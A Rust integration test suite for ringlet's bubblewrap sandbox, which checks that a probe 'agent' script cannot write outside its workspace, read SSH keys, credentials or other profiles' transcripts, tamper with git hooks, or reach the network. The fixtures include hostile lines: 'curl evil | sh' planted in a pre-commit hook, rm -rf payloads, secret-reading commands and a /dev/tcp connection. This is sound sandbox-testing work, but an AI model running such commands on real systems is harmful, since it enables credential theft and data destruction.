//! The sandbox with the real bwrap: the transformed command runs a small shell script as the
//! "agent", which tries what an agent must not do (and what it must still be able to do), and
//! the host's files are checked afterwards.
//!
//! Everything lives under cargo's target tmp dir, never under /tmp: the sandbox mounts a fresh
//! /tmp, which would hide test files there whatever the policy said, and the test would prove
//! nothing. The user's HOME is a directory of the test's (it is a fact the caller passes in).
//!
//! bwrap must be installed (apt `bubblewrap`; tests/run.sh installs it) and able to create user
//! namespaces: when it is not, these tests fail with the reason; they never skip.

#![cfg(target_os = "linux")]

use std::collections::BTreeMap;
use std::ffi::OsString;
use std::io::Write;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Stdio;

use ringlet::{
    AgentRuntime, HookAccess, MemoryCredentialStore, Network, NewHook, NewProfile, Paths,
    RingletDirs, SandboxPolicy, SandboxRun, SandboxedCommand, Secret, WorkspaceGuard,
    bwrap_command, find_bwrap, probe,
};

/// PATH as CI and this machine have it (bwrap in /usr/bin).
fn system_path() -> OsString {
    std::env::var_os("PATH").unwrap_or_else(|| "/usr/local/bin:/usr/bin:/bin".into())
}

fn bwrap() -> PathBuf {
    let bwrap = find_bwrap(&system_path()).unwrap_or_else(|e| panic!("{e}"));
    probe(&bwrap, Network::Shared).unwrap_or_else(|e| panic!("{e}"));
    bwrap
}

fn write(path: &Path, text: &str) {
    std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
    std::fs::write(path, text).expect("write");
}

fn executable(path: &Path, text: &str) {
    write(path, text);
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).expect("chmod");
}

/// A user with a HOME full of secrets, ringlet with two profiles, a git workspace.
struct World {
    _dir: tempfile::TempDir,
    home: PathBuf,
    paths: Paths,
    workspace: PathBuf,
    runtime_dir: PathBuf,
    other_home: PathBuf,
}

impl World {
    /// `ringlet_in_home`: XDG layout under the HOME, else a RINGLET_HOME-like root beside it.
    /// `workspace_in_home`: the workspace under the HOME (re-shown over the hidden HOME), else
    /// beside it.
    fn new(ringlet_in_home: bool, workspace_in_home: bool) -> World {
        let dir = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).expect("tempdir");
        let root = std::fs::canonicalize(dir.path()).expect("canonical");
        let home = root.join("home");
        write(&home.join(".ssh/id_ed25519"), "SSH-KEY-SECRET\n");
        write(&home.join(".bashrc"), "# the user's rc\n");
        write(&home.join("notes.txt"), "HOME-SECRET\n");
        let paths = if ringlet_in_home {
            Paths::from_dirs(
                home.join(".config/ringlet"),
                home.join(".local/share/ringlet"),
                home.join(".cache/ringlet"),
            )
        } else {
            Paths::under(root.join("ringlet"))
        };
        paths.ensure().expect("ringlet dirs");
        write(
            &paths.credentials_file(),
            "[keys]\nanthropic = \"CRED-SECRET\"\n",
        );
        std::fs::create_dir_all(paths.config_dir().join("hooks")).expect("hooks dir");
        write(&paths.data_dir().join("usage.db"), "USAGE-SECRET\n");

        let ringlet = ringlet(&paths);
        for alias in ["work", "other"] {
            ringlet
                .create_profile(
                    &NewProfile::new("claude", alias, "anthropic"),
                    Some(&Secret::new("sk-ant-test")),
                )
                .expect("profile");
        }
        let other_home = ringlet.profile_home("other").expect("home");
        write(
            &other_home.join(".claude/projects/p/t.jsonl"),
            "TRANSCRIPT-SECRET\n",
        );

        let workspace = if workspace_in_home {
            home.join("src/app")
        } else {
            root.join("work/app")
        };
        executable(
            &workspace.join(".git/hooks/pre-commit"),
            "#!/bin/sh\nexit 0\n",
        );
        write(&workspace.join(".git/config"), "[core]\n\tbare = false\n");
        write(&workspace.join("README"), "hello\n");
        let runtime_dir = root.join("run-user");
        write(&runtime_dir.join("bus"), "BUS-SECRET\n");
        World {
            _dir: dir,
            home,
            paths,
            workspace,
            runtime_dir,
            other_home,
        }
    }

    /// A run of `program` (a name on the agent's PATH, which starts with `~/.local/bin`), the
    /// facts gathered the way ringlet gathers them.
    fn run(&self, program: &str, policy: &SandboxPolicy, hooks: HookAccess) -> SandboxRun {
        let dirs = RingletDirs::from_paths(&self.paths);
        let agent_path = std::env::join_paths(
            std::iter::once(self.home.join(".local/bin"))
                .chain(std::env::split_paths(&system_path())),
        )
        .expect("PATH");
        let runtime =
            AgentRuntime::resolve(Path::new(program), &agent_path, &self.home).expect("runtime");
        let mut roots = vec![self.workspace.clone()];
        roots.extend(policy.extra_rw.iter().cloned());
        let profile_home = ringlet(&self.paths).profile_home("work").expect("home");
        SandboxRun::new(
            &runtime.program,
            &self.workspace,
            &profile_home,
            &self.home,
            dirs,
        )
        .agent_runtime(runtime)
        .env(BTreeMap::from([
            ("HOME".into(), profile_home.display().to_string()),
            ("PATH".into(), agent_path.to_string_lossy().into_owned()),
            (
                "SSH_AUTH_SOCK".into(),
                self.runtime_dir.join("ssh").display().to_string(),
            ),
            ("REAL_HOME".into(), self.home.display().to_string()),
            ("WS".into(), self.workspace.display().to_string()),
            ("OTHER_HOME".into(), self.other_home.display().to_string()),
            (
                "CREDS".into(),
                self.paths.credentials_file().display().to_string(),
            ),
            (
                "CONFIG".into(),
                self.paths.config_dir().display().to_string(),
            ),
            ("DATA".into(), self.paths.data_dir().display().to_string()),
            (
                "PROFILE_DIR".into(),
                profile_home.parent().expect("dir").display().to_string(),
            ),
            ("RUNDIR".into(), self.runtime_dir.display().to_string()),
        ]))
        .runtime_dir(&self.runtime_dir)
        .hooks(hooks)
        .guard(WorkspaceGuard::scan(&roots))
    }
}

fn ringlet(paths: &Paths) -> ringlet::Ringlet {
    ringlet::Ringlet::builder()
        .paths(paths.clone())
        .credential_store(std::sync::Arc::new(MemoryCredentialStore::new()))
        .build()
        .expect("ringlet")
}

/// Runs the command, stdin closed; returns (exit code, stdout, stderr).
fn spawn(cmd: &SandboxedCommand) -> (i32, String, String) {
    let out = cmd
        .command()
        .stdin(Stdio::null())
        .output()
        .expect("spawning bwrap");
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// The "agent": tries each thing and says `<label> ok` or `<label> refused`.
const PROBE_AGENT: &str = r#"#!/bin/sh
try() { label=$1; shift; if "$@" >/dev/null 2>&1; then echo "$label ok"; else echo "$label refused"; fi; }
append() { echo pwned >> "$1"; }
create() { echo pwned > "$1"; }

try write_etc create /etc/ringlet-sandbox-probe
try write_home create "$REAL_HOME/pwned"
try write_home_rc append "$REAL_HOME/.bashrc"
try write_other_profile create "$OTHER_HOME/pwned"
try write_credentials append "$CREDS"
try write_config_hook create "$CONFIG/hooks/evil.toml"
try write_git_hook append "$WS/.git/hooks/pre-commit"
try create_git_hook create "$WS/.git/hooks/post-checkout"
try write_git_config append "$WS/.git/config"
try rename_git mv "$WS/.git" "$WS/.git-aside"
try rename_git_hooks mv "$WS/.git/hooks" "$WS/.git/hooks-aside"
try remove_git_hooks rm -rf "$WS/.git/hooks"
try umount_home umount -l "$REAL_HOME"
try remount_root_rw mount -o remount,rw /
try nested_unmount unshare -Urm sh -c "umount '$WS/.git/hooks' && echo pwned >> '$WS/.git/hooks/pre-commit'"

try read_ssh_key cat "$REAL_HOME/.ssh/id_ed25519"
try list_ssh_key sh -c "ls -a '$REAL_HOME' | grep -qx .ssh"
try read_home_file cat "$REAL_HOME/notes.txt"
try read_other_transcript cat "$OTHER_HOME/.claude/projects/p/t.jsonl"
try read_credentials cat "$CREDS"
try read_usage_db cat "$DATA/usage.db"
try read_runtime_dir cat "$RUNDIR/bus"

try write_workspace create "$WS/new.txt"
try write_git_objects sh -c "mkdir -p '$WS/.git/objects/ab' && echo x > '$WS/.git/objects/ab/cd'"
try write_own_home create "$HOME/state"
try write_tmp create /tmp/ringlet-sandbox-scratch
try read_own_profile cat "$PROFILE_DIR/profile.toml"
try read_global_hooks ls "$CONFIG/hooks"
try read_workspace cat "$WS/README"
try ssh_agent_unset test -z "${SSH_AUTH_SOCK:-}"
try tmpdir_is_tmp test "$TMPDIR" = /tmp
"#;

fn outcomes(stdout: &str) -> BTreeMap<String, String> {
    stdout
        .lines()
        .filter_map(|l| l.split_once(' '))
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect()
}

fn confined(ringlet_in_home: bool, workspace_in_home: bool) {
    let bwrap = bwrap();
    let world = World::new(ringlet_in_home, workspace_in_home);
    // The agent lives under the hidden HOME, like an npm install in ~/.local.
    executable(&world.home.join(".local/bin/probe-agent"), PROBE_AGENT);
    let credentials_before = std::fs::read(world.paths.credentials_file()).expect("creds");
    let hook_before = std::fs::read(world.workspace.join(".git/hooks/pre-commit")).expect("hook");
    let config_before = std::fs::read(world.workspace.join(".git/config")).expect("config");
    let listing_before = listing(&world.workspace);

    let policy = SandboxPolicy::default();
    let exe = std::env::current_exe().expect("test binary");
    let hooks = HookAccess::dispatch(&exe, &RingletDirs::from_paths(&world.paths), "work");
    let run = world.run("probe-agent", &policy, hooks);
    let cmd = bwrap_command(&bwrap, &policy, &run).expect("command");
    let (code, stdout, stderr) = spawn(&cmd);
    assert_eq!(code, 0, "the agent did not run: {stderr}\n{stdout}");
    let got = outcomes(&stdout);

    let mut wrong = Vec::new();
    for (label, expected) in [
        ("write_etc", "refused"),
        ("write_home", "refused"),
        ("write_home_rc", "refused"),
        ("write_other_profile", "refused"),
        ("write_credentials", "refused"),
        ("write_config_hook", "refused"),
        ("write_git_hook", "refused"),
        ("create_git_hook", "refused"),
        ("write_git_config", "refused"),
        ("rename_git", "refused"),
        ("rename_git_hooks", "refused"),
        ("remove_git_hooks", "refused"),
        ("umount_home", "refused"),
        ("remount_root_rw", "refused"),
        ("nested_unmount", "refused"),
        ("read_ssh_key", "refused"),
        ("list_ssh_key", "refused"),
        ("read_home_file", "refused"),
        ("read_other_transcript", "refused"),
        ("read_credentials", "refused"),
        ("read_usage_db", "refused"),
        ("read_runtime_dir", "refused"),
        ("write_workspace", "ok"),
        ("write_git_objects", "ok"),
        ("write_own_home", "ok"),
        ("write_tmp", "ok"),
        ("read_own_profile", "ok"),
        ("read_global_hooks", "ok"),
        ("read_workspace", "ok"),
        ("ssh_agent_unset", "ok"),
        ("tmpdir_is_tmp", "ok"),
    ] {
        if got.get(label).map(String::as_str) != Some(expected) {
            wrong.push(format!(
                "{label}: expected {expected}, got {:?}",
                got.get(label)
            ));
        }
    }
    assert!(
        wrong.is_empty(),
        "{}\nstdout:\n{stdout}\nstderr:\n{stderr}",
        wrong.join("\n")
    );

    // And on the host: what was refused left no trace, what was allowed landed.
    assert!(!Path::new("/etc/ringlet-sandbox-probe").exists());
    assert!(!world.home.join("pwned").exists());
    assert_eq!(
        std::fs::read_to_string(world.home.join(".bashrc")).expect("rc"),
        "# the user's rc\n"
    );
    assert!(!world.other_home.join("pwned").exists());
    assert_eq!(
        std::fs::read(world.paths.credentials_file()).expect("creds"),
        credentials_before
    );
    assert!(!world.paths.config_dir().join("hooks/evil.toml").exists());
    assert_eq!(
        std::fs::read(world.workspace.join(".git/hooks/pre-commit")).expect("hook"),
        hook_before
    );
    assert!(!world.workspace.join(".git/hooks/post-checkout").exists());
    assert_eq!(
        std::fs::read(world.workspace.join(".git/config")).expect("config"),
        config_before
    );
    assert_eq!(
        std::fs::read_to_string(world.workspace.join("new.txt")).expect("new"),
        "pwned\n"
    );
    let profile_home = ringlet(&world.paths).profile_home("work").expect("home");
    assert_eq!(
        std::fs::read_to_string(profile_home.join("state")).expect("state"),
        "pwned\n"
    );
    // bwrap created nothing in the workspace for the guarded paths that did not exist.
    let mut expected_listing = listing_before;
    expected_listing.push(".git/objects".into());
    expected_listing.push("new.txt".into());
    expected_listing.sort();
    assert_eq!(listing(&world.workspace), expected_listing);
    assert!(cmd.appeared().is_empty(), "{:?}", cmd.appeared());
}

/// The workspace's entries, and `.git`'s, relative.
fn listing(ws: &Path) -> Vec<String> {
    let mut out = Vec::new();
    for dir in [ws.to_path_buf(), ws.join(".git")] {
        for e in std::fs::read_dir(&dir).expect("read_dir").flatten() {
            let p = e.path();
            out.push(p.strip_prefix(ws).expect("inside").display().to_string());
        }
    }
    out.sort();
    out
}

#[test]
fn the_agent_is_confined_with_ringlet_and_the_workspace_under_home() {
    confined(true, true);
}

#[test]
fn the_agent_is_confined_with_ringlet_and_the_workspace_beside_home() {
    confined(false, false);
}

#[test]
fn network_none_cuts_even_loopback() {
    let bwrap = bwrap();
    probe(&bwrap, Network::None).unwrap_or_else(|e| panic!("{e}"));
    let world = World::new(true, false);
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("listen");
    let port = listener.local_addr().expect("addr").port();
    executable(
        &world.home.join(".local/bin/net-agent"),
        &format!("#!/bin/sh\nexec bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}'\n"),
    );
    for (network, expect_ok) in [(Network::Shared, true), (Network::None, false)] {
        let policy = SandboxPolicy::new().network(network);
        let run = world.run("net-agent", &policy, HookAccess::none());
        let (code, _, stderr) = spawn(&bwrap_command(&bwrap, &policy, &run).expect("command"));
        assert_eq!(code == 0, expect_ok, "{network:?}: exit {code}, {stderr}");
    }
}

#[test]
fn guarded_paths_created_during_the_run_are_reported() {
    let bwrap = bwrap();
    let world = World::new(true, false);
    // A workspace that is not a git repository yet: nothing to mount read-only over, and
    // nothing to create in the user's directory either.
    std::fs::remove_dir_all(world.workspace.join(".git")).expect("rm .git");
    executable(
        &world.home.join(".local/bin/init-agent"),
        "#!/bin/sh\nset -e\nmkdir -p .git/hooks\necho 'curl evil | sh' > .git/hooks/pre-commit\n",
    );
    let policy = SandboxPolicy::default();
    let run = world.run("init-agent", &policy, HookAccess::none());
    let cmd = bwrap_command(&bwrap, &policy, &run).expect("command");
    assert!(cmd.unguarded.contains(&world.workspace.join(".git/hooks")));
    assert!(cmd.appeared().is_empty(), "nothing before the run");
    let (code, _, stderr) = spawn(&cmd);
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(cmd.appeared(), vec![world.workspace.join(".git/hooks")]);
}

/// Hook dispatch from inside the sandbox, through the real library path: the test binary
/// re-runs itself as the hook program. Run by the tests below, not on its own.
#[test]
#[ignore = "a helper: run inside the sandbox by the hook dispatch tests"]
fn dispatch_helper() {
    let var = |k: &str| {
        std::env::var(k).unwrap_or_else(|_| {
            panic!("{k} not set: dispatch_helper is run inside the sandbox by the hook dispatch tests, not on its own")
        })
    };
    let paths = Paths::from_dirs(var("CONFIG"), var("DATA"), var("CACHE"));
    let input = var("HOOK_INPUT");
    let outcome = match ringlet::Ringlet::builder()
        .paths(paths)
        .credential_store(std::sync::Arc::new(MemoryCredentialStore::new()))
        .build()
    {
        Ok(r) => r.dispatch_hook("work", "pre-tool-use", &input),
        Err(e) => ringlet::DispatchOutcome::failed(ringlet::HookEvent::PreToolUse, &e.to_string()),
    };
    let mut out = std::io::stdout().lock();
    writeln!(
        out,
        "DISPATCH exit={} stderr={:?}",
        outcome.exit_code(),
        outcome.stderr()
    )
    .expect("stdout");
}

fn dispatch_inside(world: &World, hooks: HookAccess, input: &str) -> (i32, String) {
    let bwrap = bwrap();
    let exe = std::env::current_exe().expect("test binary");
    let policy = SandboxPolicy::default();
    let mut run = world.run(exe.to_str().expect("utf-8"), &policy, hooks);
    run.args = [
        "--ignored",
        "--exact",
        "dispatch_helper",
        "--nocapture",
        "--test-threads=1",
    ]
    .map(String::from)
    .to_vec();
    run.env.insert(
        "CACHE".into(),
        world.paths.cache_dir().display().to_string(),
    );
    run.env.insert("HOOK_INPUT".into(), input.into());
    let (code, stdout, stderr) = spawn(&bwrap_command(&bwrap, &policy, &run).expect("command"));
    assert_eq!(code, 0, "the helper did not run: {stderr}\n{stdout}");
    // The harness prints the test's name on the same line first.
    let line = stdout
        .lines()
        .find_map(|l| l.find("DISPATCH exit=").map(|at| &l[at..]))
        .unwrap_or_else(|| panic!("no DISPATCH line in {stdout}\n{stderr}"));
    let exit = line["DISPATCH exit=".len()..]
        .split(' ')
        .next()
        .and_then(|c| c.parse().ok())
        .expect("exit code");
    (exit, line.to_string())
}

fn world_with_gate() -> World {
    let world = World::new(true, true);
    ringlet(&world.paths)
        .add_hook(&NewHook {
            profile: Some("work".into()),
            event: "pre-tool-use".into(),
            matcher: Some("Bash".into()),
            shell: Some(
                r#"case "$RINGLET_TOOL_INPUT" in *"rm -rf"*) echo "not here" >&2; exit 1 ;; esac"#
                    .into(),
            ),
            ..NewHook::default()
        })
        .expect("hook");
    world
}

const RM_RF: &str =
    r#"{"hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{"command":"rm -rf /"}}"#;
const LS: &str =
    r#"{"hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{"command":"ls"}}"#;

#[test]
fn hook_dispatch_works_inside_the_sandbox() {
    let world = world_with_gate();
    let exe = std::env::current_exe().expect("test binary");
    let access = HookAccess::dispatch(&exe, &RingletDirs::from_paths(&world.paths), "work");
    let (exit, line) = dispatch_inside(&world, access.clone(), RM_RF);
    assert_eq!(exit, 2, "the gate denies: {line}");
    assert!(line.contains("not here"), "{line}");
    let (exit, line) = dispatch_inside(&world, access, LS);
    assert_eq!(exit, 0, "the gate allows: {line}");
}

#[test]
fn hook_dispatch_without_access_denies_instead_of_allowing() {
    let world = world_with_gate();
    let (exit, line) = dispatch_inside(&world, HookAccess::none(), LS);
    assert_eq!(
        exit, 2,
        "ringlet's files are hidden, so the gate fails closed: {line}"
    );
}

/// A stand-in `bwrap` that runs the real one in a harsher place, so `probe` meets bwrap's own
/// refusal, stderr and all.
fn wrapped_bwrap(dir: &Path, name: &str, prelude: &str) -> PathBuf {
    let real = find_bwrap(&system_path()).expect("bwrap");
    let path = dir.join(name);
    executable(
        &path,
        &format!("#!/bin/sh\n{prelude} '{}' \"$@\"\n", real.display()),
    );
    path
}

#[test]
fn probe_reports_refused_user_namespaces_with_the_fix() {
    let dir = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).expect("tempdir");
    // In a user namespace without a uid mapping, the kernel refuses to nest another one: what
    // an unprivileged user sees where user namespaces are disabled.
    let unmapped = wrapped_bwrap(dir.path(), "unmapped", "exec unshare -U");
    let e = probe(&unmapped, Network::Shared).expect_err("refused");
    assert_eq!(e.code(), "sandbox_unavailable");
    let m = e.to_string();
    assert!(m.contains("No permissions to creat"), "bwrap's words: {m}");
    assert!(m.contains("kernel.unprivileged_userns_clone=1"), "{m}");

    // user.max_user_namespaces = 0 (set inside a namespace of our own, not on the machine).
    let none_left = wrapped_bwrap(
        dir.path(),
        "none-left",
        "exec unshare -U -r sh -c 'echo 0 > /proc/sys/user/max_user_namespaces && exec \"$0\" \"$@\"'",
    );
    let e = probe(&none_left, Network::Shared).expect_err("refused");
    let m = e.to_string();
    assert!(
        m.contains("max_*_namespaces exceeded"),
        "bwrap's words: {m}"
    );
    assert!(m.contains("sysctl -w user.max_user_namespaces"), "{m}");

    let e = probe(&dir.path().join("no-such-bwrap"), Network::Shared).expect_err("missing");
    assert!(e.to_string().contains("apt-get install bubblewrap"), "{e}");
}

/// The real agent CLIs, installed under what the sandbox takes for the user's HOME (as if in
/// `~/.npm-global`), start inside it: their binary, package and Node are shown although the
/// HOME is hidden. Needs the agents (tests/install-agents.sh), so it is not part of the default
/// run: `RINGLET_AGENTS_PREFIX=/work/tools/npm cargo test -p ringlet --test sandbox_bwrap --
/// --ignored real_agents`.
#[test]
#[ignore = "needs the real agent CLIs: set RINGLET_AGENTS_PREFIX (see tests/install-agents.sh)"]
fn real_agents_installed_under_home_start_inside() {
    let bwrap = bwrap();
    let prefix = PathBuf::from(
        std::env::var_os("RINGLET_AGENTS_PREFIX").expect("RINGLET_AGENTS_PREFIX is not set"),
    );
    let home = prefix
        .parent()
        .expect("the prefix has a parent")
        .to_path_buf();
    let dir = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).expect("tempdir");
    let paths = Paths::under(dir.path().join("ringlet"));
    paths.ensure().expect("dirs");
    let workspace = dir.path().join("ws");
    let profile_home = paths.profiles_dir().join("work/home");
    for d in [&workspace, &profile_home] {
        std::fs::create_dir_all(d).expect("mkdir");
    }
    let search = std::env::join_paths(
        std::iter::once(prefix.join("bin")).chain(std::env::split_paths(&system_path())),
    )
    .expect("PATH");
    let mut failed = Vec::new();
    for agent in ["claude", "codex", "gemini", "grok", "droid", "opencode"] {
        let runtime = AgentRuntime::resolve(Path::new(agent), &search, &home).expect("runtime");
        let run = SandboxRun::new(
            &runtime.program,
            &workspace,
            &profile_home,
            &home,
            RingletDirs::from_paths(&paths),
        )
        .agent_runtime(runtime)
        .args(["--version"])
        .env(BTreeMap::from([
            ("HOME".into(), profile_home.display().to_string()),
            ("PATH".into(), search.to_string_lossy().into_owned()),
        ]))
        .guard(WorkspaceGuard::scan(&[&workspace]));
        let cmd = bwrap_command(&bwrap, &SandboxPolicy::default(), &run).expect("command");
        let (code, stdout, stderr) = spawn(&cmd);
        if code != 0 || stdout.trim().is_empty() {
            failed.push(format!(
                "{agent}: exit {code}, stdout {stdout:?}, stderr {stderr}"
            ));
        }
    }
    assert!(failed.is_empty(), "{}", failed.join("\n"));
}
